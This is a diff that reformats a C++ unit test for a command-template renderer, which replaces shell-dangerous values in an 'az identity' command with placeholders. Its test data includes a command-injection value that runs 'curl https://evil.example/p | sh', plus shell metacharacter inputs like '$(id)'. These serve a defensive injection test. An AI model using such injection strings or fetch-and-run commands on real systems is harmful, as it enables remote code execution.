@@ -155,21 +155,22 @@ TEST(RenderTemplate, LeavesJsonBracesAlone) {
 // holds anything a shell acts on is withheld as a placeholder; ordinary values pass unchanged.
 TEST(RenderCommand, WithholdsValuesAShellWouldActOn) {
   std::vector<std::string> missing;
-  const std::string tmpl = "az identity federated-credential update --subject \"{subject}\" "
-                           "--issuer \"{issuer}\" -n {name}";
-  std::string s = render_command(
-      tmpl,
-      {{"subject", "x\"; curl https://evil.example/p | sh; echo \""},
-       {"issuer", "https://capzoidc.blob.core.windows.net/oidc/"},
-       {"name", "orders-api<img src=x>"}},
-      &missing);
-  EXPECT_EQ(s, "az identity federated-credential update --subject \"<SUBJECT>\" --issuer "
-               "\"https://capzoidc.blob.core.windows.net/oidc/\" -n <NAME>");
+  const std::string tmpl =
+      "az identity federated-credential update --subject \"{subject}\" "
+      "--issuer \"{issuer}\" -n {name}";
+  std::string s = render_command(tmpl,
+                                 {{"subject", "x\"; curl https://evil.example/p | sh; echo \""},
+                                  {"issuer", "https://capzoidc.blob.core.windows.net/oidc/"},
+                                  {"name", "orders-api<img src=x>"}},
+                                 &missing);
+  EXPECT_EQ(s,
+            "az identity federated-credential update --subject \"<SUBJECT>\" --issuer "
+            "\"https://capzoidc.blob.core.windows.net/oidc/\" -n <NAME>");
   EXPECT_EQ(missing, (std::vector<std::string>{"SUBJECT", "NAME"}));
 
-  for (const char* bad : {"$(id)", "`id`", "a'b", "a\\b", "a;b", "a&b", "a|b", "a>b", "a(b",
-                          "{a,b}", "a*", "a?", "[a]", "a!b", "a b", "a\nb", "a\x1b[31m",
-                          "caf\xc3\xa9", "\xe2\x80\xae"})
+  for (const char* bad :
+       {"$(id)", "`id`", "a'b", "a\\b", "a;b", "a&b", "a|b", "a>b", "a(b", "{a,b}", "a*", "a?",
+        "[a]", "a!b", "a b", "a\nb", "a\x1b[31m", "caf\xc3\xa9", "\xe2\x80\xae"})
     EXPECT_FALSE(is_shell_inert(bad)) << bad;
   for (const char* good :
        {"system:serviceaccount:capz-system:capz-manager", "api://AzureADTokenExchange",
